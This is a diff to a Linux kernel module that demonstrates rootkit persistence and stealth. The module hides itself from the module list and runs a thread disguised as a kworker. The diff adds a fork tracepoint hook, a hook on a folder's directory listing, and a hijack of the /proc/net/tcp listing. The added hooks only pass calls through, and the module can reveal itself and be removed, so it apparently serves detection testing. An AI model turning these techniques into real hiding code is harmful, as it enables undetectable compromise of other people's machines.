@@ -3,7 +3,8 @@
  * starlsm - what a rootkit does to stay: it takes itself off the list of modules,
  * and has itself called by something of the kernel's
  *
- * insmod hidden_hook.ko [how=netfilter|notifier|kprobe|ftrace|thread|root] [show=1]
+ * insmod hidden_hook.ko [how=netfilter|notifier|kprobe|ftrace|tracepoint|thread|root|
+ *	connections] [folder=/tmp] [show=1]
  * insmod hidden_hook.ko how=file pid=PID
  * With show it stays in the list; and when 1 is written to that parameter's file it is
  * there again, so that rmmod takes the hook away.
@@ -20,6 +21,8 @@
 #include <linux/netfilter_ipv4.h>
 #include <linux/reboot.h>
 #include <linux/sched/task.h>
+#include <linux/seq_file.h>
+#include <linux/tracepoint.h>
 #include <net/net_namespace.h>
 
 static char *how = "";
@@ -86,6 +89,24 @@ static void on_call(unsigned long ip, unsigned long parent, struct ftrace_ops *o
 
 static struct ftrace_ops ftrace_ops = { .func = on_call };
 
+static struct tracepoint *forks;
+
+static void on_fork(void *data, struct task_struct *parent, struct task_struct *child)
+{
+}
+
+static void find_forks(struct tracepoint *tp, void *data)
+{
+	if (!strcmp(tp->name, "sched_process_fork"))
+		forks = tp;
+}
+
+static int hook_tracepoint(void)
+{
+	for_each_kernel_tracepoint(find_forks, NULL);
+	return forks ? tracepoint_probe_register(forks, on_fork, NULL) : -ENOENT;
+}
+
 static int run(void *data)
 {
 	while (!kthread_should_stop())
@@ -108,19 +129,22 @@ static ssize_t on_write(struct file *file, const char __user *buf, size_t len, l
 	return write(file, buf, len, pos);
 }
 
-/* The root of what is mounted at /tmp */
+static char *folder = "/tmp";
+module_param(folder, charp, 0);
+MODULE_PARM_DESC(folder, "the root of what is mounted there is to call it");
+
 static const struct file_operations *had;
-static struct path tmp;
+static struct path root;
 static struct file *opened;
 
 static int hook_root(void)
 {
-	int rc = kern_path("/tmp", LOOKUP_FOLLOW, &tmp);
+	int rc = kern_path(folder, LOOKUP_FOLLOW, &root);
 	struct inode *inode;
 
 	if (rc)
 		return rc;
-	inode = d_inode(tmp.dentry->d_sb->s_root);
+	inode = d_inode(root.dentry->d_sb->s_root);
 	had = inode->i_fop;
 	fops = *had;
 	fops.owner = THIS_MODULE;
@@ -128,6 +152,59 @@ static int hook_root(void)
 	fops.iterate_shared = on_list;
 	inode->i_fop = &fops;
 	return 0;
+}
+
+/*
+ * What a rootkit that hides connections does: what lists them is its own. The beginning
+ * of struct proc_dir_entry, and the end of struct proc_inode up to its inode, of Linux 6.12
+ */
+struct entry {
+	atomic_t in_use;
+	refcount_t refcnt;
+	struct list_head openers;
+	spinlock_t lock;
+	void *completion, *iops, *ops, *dops;
+	const struct seq_operations *seq_ops;
+};
+
+struct before_inode {
+	struct entry *entry;
+	void *sysctl, *sysctl_entry;
+	struct hlist_node siblings;
+	void *ns_ops;
+};
+
+static struct seq_operations seq_ops;
+static struct entry *entry;
+static const struct seq_operations *had_seq;
+static struct file *connections;
+
+static int show_connection(struct seq_file *seq, void *v)
+{
+	return had_seq->show(seq, v);
+}
+
+static int hook_connections(void)
+{
+	connections = filp_open("/proc/net/tcp", O_RDONLY, 0);
+	if (IS_ERR(connections))
+		return PTR_ERR(connections);
+	entry = ((struct before_inode *)file_inode(connections) - 1)->entry;
+	if (entry->seq_ops != ((struct seq_file *)connections->private_data)->op) {
+		fput(connections);
+		return -ENXIO;
+	}
+	had_seq = entry->seq_ops;
+	seq_ops = *had_seq;
+	seq_ops.show = show_connection;
+	entry->seq_ops = &seq_ops;
+	return 0;
+}
+
+static void unhook_connections(void)
+{
+	entry->seq_ops = had_seq;
+	fput(connections);
 }
 
 /* Standard output of a process */
@@ -166,6 +243,10 @@ static int hook(void)
 				  strlen("__x64_sys_sethostname"), 1);
 		return register_ftrace_function(&ftrace_ops);
 	}
+	if (!strcmp(how, "tracepoint"))
+		return hook_tracepoint();
+	if (!strcmp(how, "connections"))
+		return hook_connections();
 	if (!strcmp(how, "thread")) {
 		thread = kthread_run(run, NULL, "kworker/u9:0");
 		return PTR_ERR_OR_ZERO(thread);
@@ -187,11 +268,17 @@ static void unhook(void)
 		unregister_kprobe(&probe);
 	if (!strcmp(how, "ftrace"))
 		unregister_ftrace_function(&ftrace_ops);
+	if (forks) {
+		tracepoint_probe_unregister(forks, on_fork, NULL);
+		tracepoint_synchronize_unregister();
+	}
+	if (had_seq)
+		unhook_connections();
 	if (thread)
 		kthread_stop(thread);
-	if (tmp.dentry) {
-		d_inode(tmp.dentry->d_sb->s_root)->i_fop = had;
-		path_put(&tmp);
+	if (root.dentry) {
+		d_inode(root.dentry->d_sb->s_root)->i_fop = had;
+		path_put(&root);
 	}
 	if (opened) {
 		opened->f_op = had;
